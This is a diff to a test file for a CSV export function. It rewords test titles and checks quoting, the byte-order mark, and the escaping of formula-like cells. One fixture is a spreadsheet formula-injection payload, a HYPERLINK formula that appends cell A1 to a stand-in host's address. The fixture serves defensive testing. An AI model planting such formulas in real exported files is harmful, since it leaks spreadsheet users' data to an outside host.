@@ -1,7 +1,7 @@
 import { expect, test } from 'vitest'
 import { toCsv } from './csv'
 
-test('cells are quoted where they have to be, and spreadsheets are told the encoding', () => {
+test('cells are quoted where necessary, and the file says how it is encoded', () => {
   expect(toCsv([['Name', 'Note'], ['attic', 'dry'], ['cellar, old', 'a "wet" one'], ['two\nlines', 'x\r']])).toBe(
     '\uFEFFName,Note\r\nattic,dry\r\n"cellar, old","a ""wet"" one"\r\n"two\nlines","x\r"\r\n')
 })
@@ -9,7 +9,7 @@ test('cells are quoted where they have to be, and spreadsheets are told the enco
 test.each([
   ['=HYPERLINK("http://192.0.2.1/"&A1)', '"\'=HYPERLINK(""http://192.0.2.1/""&A1)"'],
   ['+358 40', "'+358 40"], ['-cmd', "'-cmd"], ['@sum', "'@sum"], ['\tx', "'\tx"], ['-81', '-81'], ['+1.5', '+1.5'], ['-81,5', '"-81,5"'], ['a=b', 'a=b'],
-])('%s is no formula', (cell, written) => {
+])('%s is not taken for a formula', (cell, written) => {
   expect(toCsv([[cell]])).toBe(`\uFEFF${written}\r\n`)
 })
 
